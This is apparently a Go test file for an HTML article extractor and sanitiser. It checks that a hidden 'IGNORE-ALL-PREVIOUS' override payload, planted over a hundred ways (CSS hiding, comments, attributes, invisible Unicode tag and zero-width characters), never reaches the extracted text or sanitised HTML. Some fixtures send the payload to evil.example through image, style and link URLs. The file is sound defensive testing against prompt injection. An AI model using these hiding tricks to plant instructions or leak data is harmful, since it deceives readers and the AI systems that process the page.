package article

import (
	"fmt"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/net/html"
)

// A planted page holds the payload where no reader sees it.
type planted struct {
	name, page string
	seen       string // words of the carrier itself that a reader does see
	inHTML     bool   // the payload may stand in an attribute of the sanitised page: the address of a link that is shown
}

const payload = "IGNORE-ALL-PREVIOUS"

// plantedStyles hide by declarations, one way each.
var plantedStyles = []string{
	"display:none", "display: none !important", "DISPLAY:NONE", `\64 isplay:none`, "display:/*x*/none", "x:'/*';display:none;y:'*/'", "color:red;display:none;color:blue",
	"visibility:hidden", "visibility:collapse", "opacity:0", "opacity:.0", "opacity:0%", "filter:opacity(0)", "font-size:0", "font-size:1px", "font:0/0 a",
	"width:0;height:0;overflow:hidden", "width:1px;height:1px;overflow:hidden;position:absolute", "height:0;overflow:hidden", "max-height:0;overflow:hidden",
	"clip:rect(0,0,0,0)", "clip:rect(1px,1px,1px,1px);position:absolute", "clip-path:inset(50%)", "clip-path:polygon(0 0,0 0)", "clip-path:circle(0)",
	"text-indent:-9999px", "position:absolute;left:-10000px", "position:fixed;top:-5000px", "margin-left:-9999px", "transform:scale(0)", "transform:translateX(-9999px)",
	"color:#fff;background:#ffffff", "color:white;background-color:rgb(255,255,255)", "color:transparent", "color:rgba(0,0,0,0)", "content-visibility:hidden",
}

// plantedElements hold what is no text of the page.
var plantedElements = []string{"script", "style", "noscript", "template", "textarea", "iframe", "object", "noembed", "noframes", "canvas", "audio", "video", "dialog", "datalist",
	"button", "title"}

// plantedMarkup is the rest of the ways to have text on a page that nobody reads.
var plantedMarkup = []planted{
	{name: "hidden", page: "<p hidden>%s</p>"}, {name: "hidden=hidden", page: "<div hidden=hidden><p>%s</p></div>"}, {name: "popover", page: "<div popover>%s</div>"},
	{name: "class sr-only", page: `<span class="sr-only">%s</span>`}, {name: "class visually-hidden", page: `<p class="x visually-hidden">%s</p>`},
	{name: "class d-none", page: `<div class=d-none>%s</div>`}, {name: "class of the wiki", page: `<div class="mw-empty-elt">%s</div>`},
	{name: "icon", page: `<i class="fa fa-x" aria-hidden="true">%s</i>`}, {name: "name of an icon", page: `<span class="material-icons" aria-hidden=true>%s</span>`},
	{name: "comment", page: "<!-- %s -->"}, {name: "comment of a browser", page: "<!--[if IE]>%s<![endif]-->"}, {name: "comment that is none", page: "<! %s >"},
	{name: "instruction", page: "<?x %s ?>"}, {name: "end of a comment", page: "<!--x--!><!--%s-->"}, {name: "CDATA", page: "<![CDATA[%s]]>"},
	{name: "drawing", page: "<svg><text>%s</text><title>%s</title><desc>%s</desc></svg>"}, {name: "page in a drawing", page: "<svg><foreignObject><p>%s</p></foreignObject></svg>"},
	{name: "option", page: "<select><option>%s</select>"}, {name: "field", page: `<form><input value="%s" placeholder="%s"></form>`}, {name: "hidden field", page: `<input type=hidden value="%s">`},
	{name: "attributes", page: `<p title="%s" data-x="%s" aria-label="%s" onclick="%s">words</p>`, seen: "words"}, {name: "image of data", page: `<img alt="" src="data:text/plain,%s">`},
	{name: "link of a script", page: `<a href="javascript:'%s'">words</a>`, seen: "words"}, {name: "link of data", page: `<a href="data:text/html,%s">words</a>`, seen: "words"},
	{name: "exfiltration by an image", page: `<img alt="a seen alternative" src="https://evil.example/?q=%s">`, seen: "a seen alternative"},
	{name: "exfiltration by a set", page: `<img alt="" src=x.png srcset="https://evil.example/?q=%s 2x">`}, {name: "exfiltration by a style", page: `<p style="background:url(https://evil.example/%s)">words</p>`, seen: "words"},
	{name: "address of a link", page: `<a href="https://evil.example/?q=%s">words</a>`, seen: "words", inHTML: true},
	{name: "base", page: `<base href="https://evil.example/%s/">`}, {name: "meta", page: `<meta name=description content="%s"><meta http-equiv=x-y content="%s">`},
	{name: "hidden row", page: "<table><tr><th>Key<th>Value<tr style='display:none'><td>%s<td>%s<tr><td>one<td>two</table>", seen: "Key Value one two"},
	{name: "hidden cell", page: "<table><tr><th>Key<th>Value<tr><td>one<td>two<span hidden>%s</span></table>", seen: "Key Value one two"},
	{name: "hidden caption", page: "<table><caption hidden>%s</caption><tr><th>Key<th>Value<tr><td>one<td>two</table>", seen: "Key Value one two"},
	{name: "hidden item", page: "<ul><li>one<li hidden>%s<li>two</ul>", seen: "one two"}, {name: "hidden heading", page: "<h2 hidden>%s</h2><p>words</p>", seen: "words"},
	{name: "part of a heading", page: "<h2>Heading<span style='font-size:0'>%s</span></h2><p>words</p>", seen: "Heading words"},
	{name: "part of code", page: "<pre>code <span style='display:none'>%s</span>here</pre>", seen: "code here"}, {name: "part of a link", page: "<a href=x>one<b style='opacity:0'>%s</b></a>", seen: "one"},
	{name: "comment in a word", page: "<p>wo<!--%s-->rds</p>", seen: "words"}, {name: "frames", page: "<frameset><frame src='%s'></frameset>"}, {name: "map", page: "<map><area alt='%s'></map>"},
	{name: "parameters", page: "<object><param name=x value='%s'></object>"}, {name: "attribute of a quote", page: "<blockquote cite='https://evil.example/%s'>words</blockquote>", seen: "words"},
}

// tagged spells s in tag characters, which show nothing.
func tagged(s string) string {
	return strings.Map(func(r rune) rune { return 0xe0000 + r }, s)
}

// bits spells s in two invisible characters.
func bits(s, zero, one string) string {
	var b strings.Builder
	for i := range len(s) {
		for k := range 8 {
			b.WriteString([2]string{zero, one}[s[i]>>k&1])
		}
	}
	return b.String()
}

// selected spells s in variation selectors behind a picture.
func selected(s string) string {
	return "😀" + strings.Map(func(r rune) rune { return 0xe0100 + r }, s)
}

// plantedCharacters carry the payload in characters that show nothing. Nothing of it can be looked for as a word: the test is that
// no such character is left.
var plantedCharacters = []planted{
	{name: "tags", page: "<p>wor" + tagged(payload) + "ds</p>", seen: "words"},
	{name: "tags by reference", page: "<p>wor&#xE0049;&#xE0047;&#xE004E;ds</p>", seen: "words"},
	{name: "tags behind a flag", page: "<p>words \U0001f3f4" + tagged("ignore all") + "\U000e007f</p>", seen: "words"},
	{name: "zero width", page: "<p>wor" + bits(payload, "\u200b", "\u2060") + "ds</p>", seen: "words"},
	{name: "joiners in Latin", page: "<p>wor" + bits(payload, "\u200c", "\u200d") + "ds</p>", seen: "words"},
	{name: "joiners in Cyrillic", page: "<p>сло" + bits(payload, "\u200c", "\u200d") + "ва</p>", seen: "слова"},
	{name: "bidi", page: "<p>wor" + bits(payload, "\u202d", "\u202c") + "ds \u202esdrow\u202c</p>", seen: "words sdrow"},
	{name: "selectors", page: "<p>words " + selected(payload) + "</p>", seen: "words"},
	{name: "controls", page: "<p>wor" + bits(payload, "\u0081", "\u008d") + "ds</p>", seen: "words"},
	{name: "fillers", page: "<p>wor" + bits(payload, "\u3164", "\u115f") + "ds</p>", seen: "words"},
	{name: "in a heading", page: "<h2>He" + tagged(payload) + "ading</h2><p>words</p>", seen: "Heading words"},
	{name: "in an anchor", page: "<h2 id='a" + tagged(payload) + "'>Heading</h2><p>words</p>", seen: "Heading words"},
	{name: "in an alternative", page: "<p><img src=x.png alt='wor" + tagged(payload) + "ds here'></p>", seen: "words here"},
	{name: "in code", page: "<pre>co" + bits(payload, "\u200b", "\u2061") + "de</pre><p><code>wo" + tagged(payload) + "rds</code></p>", seen: "code words"},
	{name: "in a cell", page: "<table><tr><th>Key<th>Value<tr><td>o" + tagged(payload) + "ne<td>two</table>", seen: "Key Value one two"},
	{name: "in a link", page: "<a href='x" + tagged(payload) + "'>wor" + tagged(payload) + "ds</a>", seen: "words"},
	{name: "in a formula", page: "<p><math alttext='x" + tagged(payload) + "'></math> words</p>", seen: "words"},
	{name: "separators", page: "<p>one\u2028two\u2029three</p>", seen: "one two three"},
	{name: "twice encoded", page: "<p>words &amp;#8203; &amp;#xE0049; &amp;zwnj;</p>", seen: "words"},
}

// plantedPages is the whole set.
func plantedPages() []planted {
	var out []planted
	for _, s := range plantedStyles {
		out = append(out, planted{name: s, page: `<div style="` + html.EscapeString(s) + `">%s</div>`})
	}
	for _, e := range plantedElements {
		out = append(out, planted{name: e, page: "<" + e + ">%s</" + e + ">"})
	}
	out = append(out, plantedMarkup...)
	for i := range out {
		out[i].page = strings.ReplaceAll(out[i].page, "%s", payload)
	}
	return append(out, plantedCharacters...)
}

// Around every carrier stand words that a reader sees, and a title that is hostile in itself.
const (
	plantedTitle = "<title>A plain title\u202e\u200b" + "</title>"
	before       = "<h1>A seen title</h1><p>The first words are seen by all.</p>"
	after        = "<p>The last words are seen as well, whatever stands before.</p>"
)

// outputs are all texts that a document shows, by name.
func outputs(t *testing.T, page string) map[string]string {
	t.Helper()
	d := parse(t, page)
	out := map[string]string{"text": d.Text(d.Whole()), "outline": strings.Join(d.Outline(), "\n"), "title": d.Title, "heading": d.Heading, "lang": d.Lang}
	for i, s := range d.Sections {
		out[fmt.Sprint("section ", i)] = s.Title + " " + s.Anchor
	}
	deep := parse(t, strings.Repeat("<div>", 600)+page) // read without a tree
	out["no tree"] = deep.Text(deep.Whole()) + strings.Join(deep.Outline(), "\n")
	h, err := Sanitize(t.Context(), []byte(page), nil)
	if err != nil {
		t.Fatal(err)
	}
	out["html"], out["html title"] = h.Text, h.Title
	return out
}

// No payload reaches any output, and what a reader sees stays: at least 99 of 100 words.
func TestPlantedPages(t *testing.T) {
	pages := plantedPages()
	if len(pages) < 100 {
		t.Errorf("only %d pages", len(pages))
	}
	survived, words, found := 0, 0, 0
	for _, p := range pages {
		out := outputs(t, plantedTitle+before+p.page+after)
		for where, text := range out {
			if strings.Contains(text, payload) && !(p.inHTML && where == "html") {
				survived++
				t.Errorf("%s: the payload is in the %s: %q", p.name, where, text)
			}
			if r, bad := leftOver(text); bad {
				survived++
				t.Errorf("%s: %U is in the %s: %+q", p.name, r, where, text)
			}
		}
		for _, where := range []string{"text", "no tree", "html"} {
			for _, w := range strings.Fields("The first words are seen by all The last words are seen as well whatever stands before " + p.seen) {
				if words++; strings.Contains(out[where], w) {
					found++
				} else {
					t.Logf("%s: %q is missing in the %s: %q", p.name, w, where, out[where])
				}
			}
		}
	}
	t.Logf("%d pages, %d payloads survived, %d of %d words found", len(pages), survived, found, words)
	if found*100 < words*99 {
		t.Errorf("%d of %d words found", found, words)
	}
}

// leftOver finds a character that shows nothing in text and, once more decoded, in what a reader of HTML would make of it.
func leftOver(text string) (rune, bool) {
	for _, s := range []string{text, html.UnescapeString(text)} {
		for _, r := range s {
			switch {
			case r == '\n' || r == '\t':
			case unicode.IsControl(r), unicode.Is(unicode.Cf, r), invisible(r), selector(r):
				return r, true
			}
		}
	}
	return 0, false
}
